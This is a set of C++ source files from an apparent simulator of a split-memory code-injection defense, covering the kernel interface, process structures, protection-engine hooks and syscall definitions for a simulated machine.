  // shellcode does.
  if (std::holds_alternative<FdChannel>(p.fds[kFdNet])) {
    return p.alloc_fd(p.fds[kFdNet]);
  }
  return p.alloc_fd(FdConsole{});
}

// --------------------------------------------------------------------------
// Default (no-protection) engine
// --------------------------------------------------------------------------

void ProtectionEngine::on_debug_step(Kernel&, Process&) {}

FaultResolution ProtectionEngine::on_invalid_opcode(Kernel&, Process&) {
  return FaultResolution::kUnhandled;
}

void ProtectionEngine::on_fork(Kernel&, Process&, Process&) {}

FaultResolution ProtectionEngine::on_tlb_miss(Kernel& k, Process& p,
                                              const arch::PageFaultInfo& pf) {
  const Pte pte = p.as->pt().get(pf.addr);
  if (!pte.present() || !pte.user()) return FaultResolution::kUnhandled;
  k.mmu().insert_tlb_entry(pf.fetch, vpn_of(pf.addr), pte.pfn(),
                           /*user=*/true, pte.writable(), pte.no_exec());
  return FaultResolution::kRetry;
}

void ProtectionEngine::on_mprotect(Kernel& k, Process& p, Vma& vma, u32 start,
                                   u32 end) {
  PageTable pt = p.as->pt();
  for (u32 va = start; va < end; va += kPageSize) {
    Pte pte = pt.get(va);
    if (!pte.present()) continue;
    if (vma.writable()) {
      pte.set(Pte::kWritable);
    } else {
      pte.clear(Pte::kWritable);
    }
    pt.set(va, pte);
    k.invalidate_page(p, va);
  }
}

void NoProtectionEngine::materialize(Kernel& k, Process& p, const Vma& vma,
                                     u32 vaddr) {
  const u32 page = page_floor(vaddr);
  const u32 frame = k.alloc_initial_frame(p, vma, page);
  u32 flags = Pte::kPresent | Pte::kUser;
  if (vma.writable()) flags |= Pte::kWritable;
  p.as->pt().set(page, Pte::make(frame, flags));
}

FaultResolution NoProtectionEngine::on_protection_fault(Kernel&, Process&,
                                                        const PageFaultInfo&) {
  return FaultResolution::kUnhandled;
}

}  // namespace sm::kernel
