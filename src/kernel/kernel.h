// The mini operating system: process table, scheduler, syscalls, demand
// paging, copy-on-write fork, signals — i.e., the Linux-2.6.13 subsystems
// the paper's ~385-line patch modifies (§5), rebuilt over the simulated
// machine. Protection policy is delegated to a ProtectionEngine so the
// paper's split-memory system and the baselines are pluggable.
#pragma once

#include <deque>
#include <functional>
#include <iosfwd>
#include <map>
#include <memory>
#include <optional>
#include <set>
#include <string>
#include <vector>

#include "arch/cpu.h"
#include "arch/mmu.h"
#include "arch/phys_mem.h"
#include "image/image.h"
#include "kernel/address_space.h"
#include "kernel/channel.h"
#include "kernel/filesystem.h"
#include "kernel/guest_mem.h"
#include "kernel/hooks.h"
#include "kernel/process.h"
#include "kernel/protection.h"
#include "kernel/syscall_defs.h"
#include "metrics/cost_model.h"
#include "metrics/stats.h"
#include "trace/trace.h"

namespace sm::snapshot {
struct Access;
}

namespace sm::kernel {

struct KernelConfig {
  u32 phys_frames = 16384;  // 64 MiB of simulated RAM
  metrics::CostModel cost{};

  // DigSig-style binary signing (paper §4.3): when enabled, spawn/exec/
  // dlopen refuse images whose HMAC does not verify.
  bool require_signatures = false;
  std::vector<u8> signing_key;

  // Linux-2.6-style "slight randomization to the placement of an
  // application's stack" (paper §6.1.2, samba attack).
  bool stack_randomization = false;
  u32 rng_seed = 0x5eed;

  u32 stack_pages = 64;  // 256 KiB stack VMA

  // SPARC-style software-managed TLBs (paper SS4.7): every TLB miss traps
  // to the OS, which loads the TLB directly — no hardware walker, and no
  // need for the x86 split-load contortions.
  bool software_tlb = false;

  // TLB geometry (per TLB; the machine has a split I/D pair). 64x4-way
  // approximates the Pentium III the paper measured on.
  u32 tlb_entries = 64;
  u32 tlb_ways = 4;

  // Populate (and, under a splitting engine, duplicate) every page of
  // every VMA at load time instead of on demand — the behaviour of the
  // paper's prototype, whose ELF-loader patch proactively copied the whole
  // program into side-by-side page pairs (SS5.1). Off by default: the
  // demand-paged variant is the optimization the paper proposes there.
  bool eager_load = false;

  // Observability for the differential-fuzz oracle and the attack tests
  // (tests/support/guest_runner.h turns both on). Off by default so the
  // bench hot paths pay nothing.
  bool record_syscall_trace = false;  // fills Process::syscall_trace
  bool capture_exit_digest = false;   // fills Process::exit_digest

  // Structured event tracing + cycle-attribution profiler (src/trace).
  // Pure observation: simulated stats are bit-identical with this on or
  // off (the billing-identity invariant, fuzz-oracle enforced). Ignored
  // when the build compiled the trace layer out (-DSM_TRACE=OFF).
  bool trace = false;
  u32 trace_ring_capacity = 1 << 16;

  // Basic-block translation engine (mini-DBT, DESIGN.md §13). Host-side
  // only: simulated stats, figures, and trace attribution are bit-
  // identical with this on or off — only host wall-clock and the
  // block_cache_* counters change. Also gated by the SM_DBT environment
  // variable ("0" disables, for same-binary identity diffs) and compiled
  // out of the run loop entirely under -DSM_DBT=OFF.
  bool dbt = true;

  // Simulated cores (DESIGN.md §16). Each core owns a private split
  // I/D-TLB pair, its own CPU (registers + block caches) and a runqueue;
  // physical memory, page tables and the cycle clock are shared. 0 means
  // auto: the SM_CORES environment variable if set, else 1. Resolved to
  // the concrete count at Kernel construction (never cached statically, so
  // one process can build kernels with different core counts). At cores=1
  // the machine is bit-identical to the historical single-core simulator.
  u32 cores = 0;
};

// A code-injection detection recorded by a protection engine.
struct DetectionEvent {
  Pid pid = 0;
  std::string process;
  u32 eip = 0;
  arch::u64 cycles = 0;
  std::string mode;              // break/observe/forensics/nx
  std::vector<u8> shellcode;     // forensics: bytes at EIP in the data page
  std::string disassembly;       // forensics: rendered shellcode
};

class Kernel {
 public:
  explicit Kernel(KernelConfig cfg = {});

  // Must be called before the first spawn; defaults to NoProtectionEngine.
  void set_engine(std::unique_ptr<ProtectionEngine> engine);
  ProtectionEngine& engine() { return *engine_; }

  // --- components ---------------------------------------------------------
  arch::PhysicalMemory& phys() { return pm_; }
  // The ACTIVE core's MMU/CPU: the pair every trap handler, engine and
  // syscall implicitly runs on. At cores=1 these are the machine's only
  // MMU/CPU, exactly as before SMP.
  arch::Mmu& mmu() { return cores_[active_core_]->mmu; }
  arch::Cpu& cpu() { return cores_[active_core_]->cpu; }
  metrics::Stats& stats() { return stats_; }
  const metrics::CostModel& cost() const { return cfg_.cost; }
  const KernelConfig& config() const { return cfg_; }
  FileSystem& fs() { return fs_; }
  arch::u64 now() const { return stats_.cycles; }
  // The trace sink, or nullptr when tracing is off (the common case).
  // Engines emit Algorithm 1/2/3 events through this via SM_TRACE.
  trace::TraceSink* trace_sink() { return trace_ptr_; }

  // --- SMP (DESIGN.md §16) -------------------------------------------------
  u32 num_cores() const { return static_cast<u32>(cores_.size()); }
  u32 active_core() const { return active_core_; }
  arch::Mmu& core_mmu(u32 core) { return cores_[core]->mmu; }
  arch::Cpu& core_cpu(u32 core) { return cores_[core]->cpu; }
  std::optional<Pid> core_current(u32 core) const {
    return cores_[core]->current;
  }
  // Drops the translation for vaddr machine-wide: invlpg on the active
  // core plus an IPI shootdown of every remote core that may cache it.
  // Every PTE-mutation site (COW break, munmap, mprotect, fork's
  // write-protect loop, unsplit) goes through this instead of a bare
  // local invlpg.
  void invalidate_page(Process& p, u32 vaddr);
  // Remote-only half of invalidate_page: IPIs every other core whose CR3
  // points at p's page tables and waits for each ack (invariant I7). The
  // split engine calls this before opening a single-step window WITHOUT
  // touching the local TLBs — the window exists to fill them.
  void tlb_shootdown(Process& p, u32 vaddr);
  // A shootdown whose IPI retries were exhausted (injected drop-ipi
  // faults) parks here; opening a window over it violates I7. The
  // watchdog audits and repairs via complete_pending_shootdowns().
  struct PendingShootdown {
    u32 vpn = 0;        // targeted page
    u32 root = 0;       // page-table root the stale entry belongs to
    u32 core_mask = 0;  // cores whose ack never arrived
  };
  const std::vector<PendingShootdown>& pending_shootdowns() const {
    return pending_shootdowns_;
  }
  // Repair path: invalidates the parked translations directly on each
  // un-acked core (bypassing droppable IPI delivery) and clears the list.
  void complete_pending_shootdowns();

  // --- images (the "filesystem of binaries") ------------------------------
  void register_image(image::Image img);
  const image::Image* find_image(const std::string& name) const;

  // --- processes -----------------------------------------------------------
  Pid spawn(const std::string& image_name);
  // Binds a fresh simulated socket to the process' fd 0 and returns the
  // host end. Call before running the guest.
  std::shared_ptr<Channel> attach_channel(Pid pid);
  Process* process(Pid pid);
  const Process* process(Pid pid) const;
  // The process table: a slab indexed by pid (pid N lives at slot N-1).
  // Pids are never reused, so slots are append-only and a stale pid can
  // never alias a different process; lookups still verify slot->pid == pid
  // (the generation check, degenerate under monotonic pids) so a recycled
  // slot scheme can be introduced without changing any caller.
  const std::vector<std::unique_ptr<Process>>& processes() const {
    return procs_;
  }
  bool all_exited() const { return live_procs_ == 0; }

  // --- run loop -------------------------------------------------------------
  enum class RunResult { kAllExited, kAllBlocked, kBudgetExhausted };
  // Runs until everyone exits, everyone blocks with no armed timer, the
  // instruction budget runs out, or — when `cycle_stop` is nonzero — the
  // simulated clock reaches it (reported as kBudgetExhausted; virtual
  // idle advances clamp to the bound). The cycle bound is how open-loop
  // drivers interleave host work at exact simulated times.
  RunResult run(arch::u64 max_instructions = UINT64_MAX,
                arch::u64 cycle_stop = 0);

  // --- virtual-time timers (DESIGN.md §17) ----------------------------------
  // The deadline wheel: {absolute deadline, pid}, ordered — ties broken by
  // pid, so expiry order is deterministic. run() itself advances the clock
  // to the earliest deadline when every process is blocked but a timer is
  // armed (virtual idle), so kAllBlocked means "blocked with no timers".
  const std::set<std::pair<arch::u64, Pid>>& timers() const { return timers_; }
  // Host-side pacing hook for open-loop workloads: when run() returned
  // kAllBlocked and the next external event (e.g. a request arrival) is
  // due at `to_cycles`, jump the clock there so the guest observes the
  // arrival at its scheduled virtual time. Clamped to never move the clock
  // backwards; returns the new now().
  arch::u64 advance_idle_time(arch::u64 to_cycles);
  // Fault-injection service (stall-worker): park p as if it had slept for
  // `cycles`. Must not be called with a single-step window open.
  void inject_stall(Process& p, arch::u64 cycles);

  // --- checkpoint/restore (src/snapshot, DESIGN.md §15) ---------------------
  // Serializes the complete simulated machine. Attached fault-injector /
  // watchdog hooks are discovered and included; host-side caches are
  // dropped cold on restore (billing-identical by contract). restore() is
  // an in-place reset: this kernel must have the same KernelConfig and
  // engine as the saved one (validated; snapshot::SnapshotError on any
  // mismatch or corrupt stream) but may itself have run arbitrarily far.
  // Save points are run() exit boundaries — always whole instructions.
  void save(std::ostream& os);
  void restore(std::istream& is);

  // The channel behind (pid, fd), or nullptr — lets an embedder re-bind
  // its host end after restore() rebuilt the object graph.
  std::shared_ptr<Channel> channel_of(Pid pid, u32 fd);

  // --- services for engines & syscalls (public: engines live in sm::core) --
  GuestMem mem_of(Process& p) { return GuestMem(*p.as); }
  // Registers (live on the CPU for the currently-running process).
  arch::Regs& regs_of(Process& p);
  // Demand-maps every page overlapping [va, va+len); false if outside VMAs.
  bool ensure_mapped(Process& p, u32 va, u32 len);
  // Allocates a frame filled with the VMA-backed initial contents of the
  // page covering page_va.
  u32 alloc_initial_frame(Process& p, const Vma& vma, u32 page_va);
  // Terminates a process with a signal-style cause.
  void kill_process(Process& p, ExitKind kind, const std::string& reason);
  void log(const std::string& line);
  const std::vector<std::string>& klog() const { return klog_; }

  std::vector<DetectionEvent>& detections() { return detections_; }

  // --- robustness hooks (src/inject, src/invariant) ------------------------
  // Non-owning; nullptr (the default) means no fault injection / no
  // watchdog. Compiled out entirely under -DSM_INVARIANT=OFF.
  void set_fault_source(FaultSource* src) { fault_source_ = src; }
  void set_step_observer(StepObserver* obs) { step_observer_ = obs; }
  FaultSource* fault_source() { return fault_source_; }
  StepObserver* step_observer() { return step_observer_; }

  // Sebek-style honeypot logging hook (paper Fig. 5d): called with each
  // line the attacker "types" into a spawned shell.
  std::function<void(Process&, const std::string&)> shell_input_logger;

  // Deterministic kernel PRNG (stack randomization, SYS_RAND).
  u32 rng_next();

 private:
  friend struct sm::snapshot::Access;

  // Intrusive FIFO runqueue threaded through Process::rq_next/rq_prev.
  // push/pop/remove are O(1); iteration order is exactly the push order,
  // preserving the historical round-robin schedule of the pid deque.
  struct RunQueue {
    Process* head = nullptr;
    Process* tail = nullptr;
    u32 core_id = 0;  // stamped into Process::rq_core by push_back
    bool empty() const { return head == nullptr; }
    void push_back(Process& p);
    Process* pop_front();
    void remove(Process& p);
  };

  // One simulated core: private split I/D-TLBs (inside the Mmu), private
  // CPU (registers, decode/block caches), and a private runqueue. The
  // machine interleaves cores on one host thread with a fixed dispatch
  // quantum, so every multi-core schedule is deterministic.
  struct Core {
    Core(u32 id_, arch::PhysicalMemory& pm, metrics::Stats& stats,
         const metrics::CostModel& cost, u32 tlb_entries, u32 tlb_ways)
        : id(id_), mmu(pm, stats, cost, tlb_entries, tlb_ways),
          cpu(mmu, stats, cost) {
      runqueue.core_id = id_;
    }
    u32 id = 0;
    arch::Mmu mmu;
    arch::Cpu cpu;
    RunQueue runqueue;
    std::optional<Pid> current;
    std::optional<Pid> last_running;  // CR3 owner; skip reload if unchanged
    arch::u64 slice_used = 0;
  };

  // --- run-loop internals ---------------------------------------------------
  std::optional<Pid> pick_next(Core& c);
  void switch_to(Core& c, Pid pid);
  void deschedule(Process& p);
  void make_runnable(Process& p);
  // The core a freshly runnable process is queued on: pid-sharded, so
  // placement is a pure function of the pid and the core count.
  Core& home_core(const Process& p) {
    return *cores_[(p.pid - 1) % cores_.size()];
  }
  void handle_trap(Process& p, const arch::Trap& trap, bool tf_before);
  void handle_page_fault(Process& p, const arch::PageFaultInfo& pf);
  void handle_cow(Process& p, u32 addr);
  bool wait_satisfied(const Process& p) const;
  bool fd_readable(const Process& p, u32 fd) const;

  // --- timer wheel internals ------------------------------------------------
  // Arms {now + timeout, pid} for the wait p is about to block on (no-op
  // when timeout is 0 = block forever). Exactly one entry per process.
  void arm_timer(Process& p, arch::u64 timeout);
  void cancel_timer(Process& p);
  // Pops every entry with deadline <= now, marks the owner timed out and
  // wakes it. Called at the same scheduling decisions that sweep channel
  // waiters, and from the run loop's virtual-idle advance.
  void expire_timers();

  // --- event-driven wakeups -------------------------------------------------
  // Blocking enqueues the process on the wait queue(s) of what it sleeps
  // on; the satisfying event wakes exactly those sleepers. Entries are
  // re-validated (still blocked, wait now satisfied) before waking, so a
  // stale entry — a select2 sleeper already woken through its other fd, or
  // a process that died while queued — is skipped and discarded.
  void register_waiter(Process& p);
  // Wakes the first valid sleeper on the queue (FIFO); false if none.
  bool wake_one(std::deque<u32>& waiters);
  void wake_all(std::deque<u32>& waiters);
  void wake_exit_waiters(Process& p);
  // Channels are mutated by the host only between run() calls, so their
  // sleepers are woken once per run() entry, in pid order — exactly the
  // order the retired global sweep produced.
  void wake_channel_waiters();
  // Closing a pipe end may fire EOF/EPIPE for every peer of that pipe;
  // these route through the wake queues, so fd release is kernel business.
  void release_fd(FdEntry& e);
  void release_all_fds(Process& p);

  // --- syscalls ---------------------------------------------------------------
  // `retried` marks the re-run of a blocked syscall so the trace records
  // each syscall once, at first issue.
  void do_syscall(Process& p, bool retried = false);
  // SHA-256 over the data view of the whole address space (sorted VMAs;
  // unmapped pages contribute their backing-defined initial bytes, so the
  // digest is independent of demand-paging order and engine page-pairing).
  image::Digest final_memory_digest(Process& p);
  u32 sys_read(Process& p, u32 fd, u32 buf, u32 len, bool& blocked);
  u32 sys_write(Process& p, u32 fd, u32 buf, u32 len, bool& blocked);
  u32 sys_open(Process& p, u32 path_ptr, u32 flags);
  u32 sys_mmap(Process& p, u32 hint, u32 len, u32 prot);
  u32 sys_brk(Process& p, u32 new_end);
  u32 sys_fork(Process& p);
  u32 sys_exec(Process& p, u32 path_ptr);
  u32 sys_dlopen(Process& p, u32 path_ptr);
  u32 sys_mprotect(Process& p, u32 addr, u32 len, u32 prot);
  u32 sys_spawn_shell(Process& p);
  u32 sys_listen(Process& p, u32 port, u32 backlog);
  u32 sys_connect(Process& p, u32 port);

  void load_into(Process& p, const image::Image& img);
  bool image_allowed(const image::Image& img) const;

  KernelConfig cfg_;
  arch::PhysicalMemory pm_;
  metrics::Stats stats_;
  // The cores. Fixed at construction (cfg_.cores resolved against
  // SM_CORES); unique_ptr keeps Core addresses stable for the intrusive
  // runqueues. Index 0 is the boot core.
  std::vector<std::unique_ptr<Core>> cores_;
  u32 active_core_ = 0;
  // Attempted instructions consumed from the active core's current dispatch
  // quantum. Machine state (not a run() local): a resumed or restored run
  // must continue the core interleave mid-turn, not restart it.
  arch::u64 quantum_used_ = 0;
  std::vector<PendingShootdown> pending_shootdowns_;
  trace::TraceSink trace_;
  trace::TraceSink* trace_ptr_ = nullptr;  // &trace_ iff cfg_.trace
  FileSystem fs_;
  std::unique_ptr<ProtectionEngine> engine_;
  FaultSource* fault_source_ = nullptr;
  StepObserver* step_observer_ = nullptr;

  std::map<std::string, image::Image> images_;
  std::vector<std::unique_ptr<Process>> procs_;  // slot N-1 holds pid N
  u32 live_procs_ = 0;  // processes not yet zombie (all_exited in O(1))
  // Pids blocked on a channel fd (directly or via select2), swept at run()
  // entry. An ordered set: wake order must be pid order, and re-blocking
  // must not duplicate the entry.
  std::set<Pid> channel_waiters_;
  // The deadline wheel (see timers()). Mirrors Process::wait_deadline:
  // the wheel holds exactly {p.wait_deadline, p.pid} for every process
  // with a nonzero deadline, so restore rebuilds it from the process
  // table instead of serializing it.
  std::set<std::pair<arch::u64, Pid>> timers_;
  // Listening sockets by port, in port order (deterministic snapshot
  // discovery). An entry lives exactly as long as fd-table references to
  // its ListenSock exist (ListenSock::refs).
  std::map<u32, std::shared_ptr<ListenSock>> listen_ports_;
  Pid next_pid_ = 1;
  u32 rng_state_;
  std::vector<std::string> klog_;
  std::vector<DetectionEvent> detections_;
};

}  // namespace sm::kernel
