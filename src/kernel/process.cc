#include "kernel/process.h"

#include <cstdio>

namespace sm::kernel {

std::string to_string(const SyscallRecord& r) {
  char buf[64];
  std::snprintf(buf, sizeof buf, "sys%u(0x%08x, 0x%08x, 0x%08x)", r.num, r.a1,
                r.a2, r.a3);
  return buf;
}

u32 Process::alloc_fd(FdEntry entry) {
  // Invariant: every monostate slot has an entry in the heap (kSysClose
  // and spawn push; release_all_fds clears both sides), so popping the
  // minimum IS the old front-to-back scan's answer.
  while (!free_fds.empty()) {
    const u32 i = free_fds.top();
    free_fds.pop();
    ++fd_alloc_probes;
    if (i < fds.size() && std::holds_alternative<std::monostate>(fds[i])) {
      fds[i] = std::move(entry);
      return i;
    }
    // Stale: occupied out-of-band or a duplicate from a double close.
  }
  fds.push_back(std::move(entry));
  return static_cast<u32>(fds.size() - 1);
}

}  // namespace sm::kernel
