#include "kernel/process.h"

namespace sm::kernel {

u32 Process::alloc_fd(FdEntry entry) {
  for (u32 i = 0; i < fds.size(); ++i) {
    if (std::holds_alternative<std::monostate>(fds[i])) {
      fds[i] = std::move(entry);
      return i;
    }
  }
  fds.push_back(std::move(entry));
  return static_cast<u32>(fds.size() - 1);
}

}  // namespace sm::kernel
