#include "kernel/process.h"

#include <cstdio>

namespace sm::kernel {

std::string to_string(const SyscallRecord& r) {
  char buf[64];
  std::snprintf(buf, sizeof buf, "sys%u(0x%08x, 0x%08x, 0x%08x)", r.num, r.a1,
                r.a2, r.a3);
  return buf;
}

u32 Process::alloc_fd(FdEntry entry) {
  for (u32 i = 0; i < fds.size(); ++i) {
    if (std::holds_alternative<std::monostate>(fds[i])) {
      fds[i] = std::move(entry);
      return i;
    }
  }
  fds.push_back(std::move(entry));
  return static_cast<u32>(fds.size() - 1);
}

}  // namespace sm::kernel
