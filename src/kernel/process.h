// Process: registers, address space, file descriptors, scheduling state,
// and the split-memory bookkeeping slot the paper adds to the Linux process
// table ("saving the faulting address into the process' entry in the OS
// process table in order to pass it to the debug interrupt handler", §5.2).
#pragma once

#include <memory>
#include <optional>
#include <queue>
#include <string>
#include <variant>
#include <vector>

#include "arch/cpu.h"
#include "image/sha256.h"
#include "kernel/address_space.h"
#include "kernel/channel.h"
#include "kernel/filesystem.h"

namespace sm::kernel {

using Pid = u32;

enum class ProcState { kRunnable, kBlocked, kZombie };

// What a blocked process is waiting for. Blocking registers the process on
// the wait queue of the object it sleeps on (pipe end, channel, child), and
// the event that satisfies the wait — a peer's write/read/close/exit —
// wakes it directly; there is no global sweep. The reason is re-validated
// at wake time, so a stale queue entry is skipped, never mis-woken.
struct WaitNone {};
struct WaitReadFd {
  u32 fd;
};
struct WaitWriteFd {
  u32 fd;
};
struct WaitChild {
  Pid pid;
};
// select2(fd_a, fd_b): wait until either fd is readable (or at EOF).
struct WaitSelect2 {
  u32 fd_a;
  u32 fd_b;
};
// sleep(cycles) or an injected stall: nothing satisfies this wait except
// the timer wheel firing the process' armed deadline.
struct WaitSleep {};
using WaitReason = std::variant<WaitNone, WaitReadFd, WaitWriteFd, WaitChild,
                                WaitSelect2, WaitSleep>;

// File descriptor table entry.
struct FdChannel {
  std::shared_ptr<Channel> chan;
};
struct FdConsole {};
struct FdPipeRead {
  std::shared_ptr<Pipe> pipe;
};
struct FdPipeWrite {
  std::shared_ptr<Pipe> pipe;
};
struct FdFile {
  std::shared_ptr<FileNode> node;
  u32 offset = 0;
  bool writable = false;
};
// A listening socket (SYS_LISTEN): holds the port's bounded accept queue.
struct FdListen {
  std::shared_ptr<ListenSock> sock;
};
// A connected socket end (SYS_CONNECT / SYS_ACCEPT): one pipe per
// direction, this holder being the reader of rx and the writer of tx.
struct FdSock {
  std::shared_ptr<Pipe> rx;
  std::shared_ptr<Pipe> tx;
};
using FdEntry =
    std::variant<std::monostate, FdChannel, FdConsole, FdPipeRead, FdPipeWrite,
                 FdFile, FdListen, FdSock>;

// How a process died (for attack-result reporting).
enum class ExitKind { kRunning, kExited, kKilledSigsegv, kKilledSigill };

// One syscall as the process issued it (number + argument registers at
// entry). Recorded when KernelConfig::record_syscall_trace is set, so the
// differential-fuzz oracle and the attack tests can compare the externally
// visible behaviour of a guest across protection engines instead of
// looking at exit status alone. Blocked-and-retried syscalls are recorded
// once, at first issue.
struct SyscallRecord {
  u32 num = 0;
  u32 a1 = 0;
  u32 a2 = 0;
  u32 a3 = 0;

  bool operator==(const SyscallRecord&) const = default;
};

std::string to_string(const SyscallRecord& r);

struct Process {
  Pid pid = 0;
  Pid parent = 0;
  std::string name;
  ProcState state = ProcState::kRunnable;
  ExitKind exit_kind = ExitKind::kRunning;
  u32 exit_code = 0;

  // Intrusive runqueue links (kernel-owned). The scheduler keeps runnable
  // processes on a doubly-linked FIFO threaded through these fields, so
  // enqueue, dequeue and mid-queue removal are all O(1) — a std::deque of
  // pids needed an O(n) membership scan in make_runnable and an O(n)
  // std::erase on exit, quadratic under thousands of processes. The
  // on_runqueue flag makes membership a field read; the FIFO order is
  // identical to the deque's (push_back / pop_front), so the round-robin
  // schedule — and with it every simulated figure — is unchanged.
  Process* rq_next = nullptr;
  Process* rq_prev = nullptr;
  bool on_runqueue = false;
  // The core whose runqueue currently holds this process (valid only while
  // on_runqueue). Maintained by the queue push itself, so it needs no
  // separate serialization — restore re-pushes through the normal path.
  u32 rq_core = 0;

  arch::Regs regs;
  std::unique_ptr<AddressSpace> as;
  std::vector<FdEntry> fds;

  WaitReason waiting = WaitNone{};
  // Blocked syscall to re-run on wake (regs still hold its arguments).
  bool retry_syscall = false;

  // Virtual-time deadline armed for the current blocked wait (absolute
  // cycles; 0 = none). Mirrored by the kernel's timer wheel — the wheel
  // entry is exactly {wait_deadline, pid} while this is nonzero, so
  // restore rebuilds the wheel from the process table.
  arch::u64 wait_deadline = 0;
  // Set by the timer wheel when the deadline fired before the wait was
  // satisfied; the retried syscall consumes it and returns ERR_TIMEDOUT
  // (or 0 for SYS_SLEEP) if it still cannot make progress.
  bool timed_out = false;

  // Pids blocked in waitpid() on THIS process; its exit wakes exactly these
  // (the per-parent child-exit wait list — no table scan).
  std::vector<Pid> exit_waiters;

  // Split-memory bookkeeping (paper §5.2/§5.3): the page whose PTE was
  // unrestricted for a single-stepped I-TLB load, to be re-restricted by
  // the debug interrupt handler.
  std::optional<u32> pending_split_vaddr;

  // Attack/response bookkeeping.
  bool shell_spawned = false;
  std::optional<u32> recovery_handler;  // SYS_REGISTER_RECOVERY target

  // Console output (fd 1).
  std::string console;

  // Observability for differential testing (both gated by KernelConfig
  // flags so the bench hot paths pay nothing):
  // every syscall issued, in order...
  std::vector<SyscallRecord> syscall_trace;
  // ...and a SHA-256 over the data view of the whole address space,
  // captured at exit/kill just before the address space is torn down.
  std::optional<image::Digest> exit_digest;

  // Allocates the lowest free fd slot — the POSIX contract the guests and
  // figures depend on. Backed by a lazy min-heap of freed indices instead
  // of a front-to-back scan (O(log n) vs O(n) per allocation; a server
  // churning thousands of fds made the scan quadratic). Lazy: entries can
  // go stale when a slot is occupied out-of-band (attach_channel) or
  // double-closed; alloc_fd discards those as it finds them.
  u32 alloc_fd(FdEntry entry);
  // Declares slot i reusable. Call after the entry is released.
  void free_fd(u32 i) { free_fds.push(i); }

  std::priority_queue<u32, std::vector<u32>, std::greater<u32>> free_fds;
  // Host-side (bills no cycles): heap entries examined by alloc_fd, for
  // the O(1)-allocation regression test. Stale discards count; the final
  // append does not.
  arch::u64 fd_alloc_probes = 0;

  bool alive() const { return state != ProcState::kZombie; }
};

}  // namespace sm::kernel
