// ProtectionEngine: the kernel↔protection-policy boundary.
//
// The kernel owns generic memory management (VMAs, demand paging, COW,
// teardown); a ProtectionEngine decides how pages are materialized and what
// happens on permission/invalid-opcode faults. The paper's contribution —
// the split-memory virtual Harvard architecture — is the SplitMemoryEngine
// in sm::core; baselines (no protection, hardware execute-disable bit) are
// engines too, so every experiment swaps policy without touching the OS.
#pragma once

#include <string>

#include "arch/trap.h"
#include "arch/types.h"

namespace sm::kernel {

class Kernel;
struct Process;
struct Vma;

using arch::PageFaultInfo;
using arch::u32;

enum class FaultResolution {
  kRetry,      // cause fixed; restart the faulting instruction
  kKilled,     // process was terminated by the engine/response mode
  kUnhandled,  // not mine; kernel delivers the default signal
};

class ProtectionEngine {
 public:
  virtual ~ProtectionEngine() = default;
  virtual std::string name() const = 0;

  // Demand-pages the page containing `vaddr` (vma guaranteed to cover it,
  // PTE guaranteed non-present). Must leave a present PTE behind.
  virtual void materialize(Kernel& k, Process& p, const Vma& vma,
                           u32 vaddr) = 0;

  // A permission fault on a PRESENT page after the kernel ruled out COW.
  // The split engine implements Algorithm 1 here.
  virtual FaultResolution on_protection_fault(Kernel& k, Process& p,
                                              const PageFaultInfo& pf) = 0;

  // Software-managed-TLB mode (paper SS4.7): the OS loads TLB entries
  // itself on every miss. Return kRetry after installing the entry, or
  // kUnhandled to fall through to the regular page-fault path (demand
  // paging etc.). Default: install the current PTE if present+user.
  virtual FaultResolution on_tlb_miss(Kernel& k, Process& p,
                                      const PageFaultInfo& pf);

  // The debug (single-step) interrupt; Algorithm 2 for the split engine.
  virtual void on_debug_step(Kernel& k, Process& p);

  // Invalid opcode in user mode; response modes (Algorithm 3) hook here.
  virtual FaultResolution on_invalid_opcode(Kernel& k, Process& p);

  // Called after fork() duplicated the page tables so the engine can fix
  // engine-private state. Default: nothing.
  virtual void on_fork(Kernel& k, Process& parent, Process& child);

  // mprotect over present pages of one VMA (prot already updated on the
  // VMA). Default: rewrite the writable bit and invlpg.
  virtual void on_mprotect(Kernel& k, Process& p, Vma& vma, u32 start,
                           u32 end);

  // Graceful degradation request from the invariant watchdog: give up on
  // protecting the page covering `vaddr` and lock it into a plain unsplit
  // mapping (the ResponseMode::kObserve lock path) so the guest keeps
  // running. Returns true if the page was degraded; engines without split
  // state have nothing to degrade and return false.
  virtual bool degrade_lock_unsplit(Kernel& k, Process& p, u32 vaddr) {
    (void)k;
    (void)p;
    (void)vaddr;
    return false;
  }
};

// The baseline: a conventional von Neumann system with no protection.
// Demand paging maps a single user-accessible frame per page.
class NoProtectionEngine : public ProtectionEngine {
 public:
  std::string name() const override { return "none"; }
  void materialize(Kernel& k, Process& p, const Vma& vma, u32 vaddr) override;
  FaultResolution on_protection_fault(Kernel& k, Process& p,
                                      const PageFaultInfo& pf) override;
};

}  // namespace sm::kernel
