#include "kernel/syscall_defs.h"

#include <sstream>

namespace sm::kernel {

std::string guest_syscall_equs() {
  std::ostringstream out;
  auto equ = [&](const char* name, u32 v) {
    out << ".equ " << name << ", " << v << "\n";
  };
  equ("SYS_EXIT", kSysExit);
  equ("SYS_WRITE", kSysWrite);
  equ("SYS_READ", kSysRead);
  equ("SYS_OPEN", kSysOpen);
  equ("SYS_CLOSE", kSysClose);
  equ("SYS_SPAWN_SHELL", kSysSpawnShell);
  equ("SYS_FORK", kSysFork);
  equ("SYS_EXEC", kSysExec);
  equ("SYS_WAITPID", kSysWaitpid);
  equ("SYS_GETPID", kSysGetpid);
  equ("SYS_BRK", kSysBrk);
  equ("SYS_MMAP", kSysMmap);
  equ("SYS_MUNMAP", kSysMunmap);
  equ("SYS_PIPE", kSysPipe);
  equ("SYS_YIELD", kSysYield);
  equ("SYS_TIME", kSysTime);
  equ("SYS_MPROTECT", kSysMprotect);
  equ("SYS_DLOPEN", kSysDlopen);
  equ("SYS_REGISTER_RECOVERY", kSysRegisterRecovery);
  equ("SYS_RAND", kSysRand);
  equ("SYS_SELECT2", kSysSelect2);
  equ("SYS_SLEEP", kSysSleep);
  equ("SYS_LISTEN", kSysListen);
  equ("SYS_CONNECT", kSysConnect);
  equ("SYS_ACCEPT", kSysAccept);
  equ("SYS_READ_T", kSysReadT);
  equ("SYS_SELECT2_T", kSysSelect2T);
  equ("ERR_TIMEDOUT", kErrTimedOut);
  equ("ERR_REFUSED", kErrRefused);
  equ("O_READ", kOpenRead);
  equ("O_WRITE", kOpenWrite);
  equ("PROT_R", kProtR);
  equ("PROT_W", kProtW);
  equ("PROT_X", kProtX);
  equ("FD_NET", kFdNet);
  equ("FD_CONSOLE", kFdConsole);
  return out.str();
}

}  // namespace sm::kernel
