// Syscall ABI shared between the kernel and guest assembly.
//
// Convention: syscall number in r0, arguments in r1..r4, result in r0
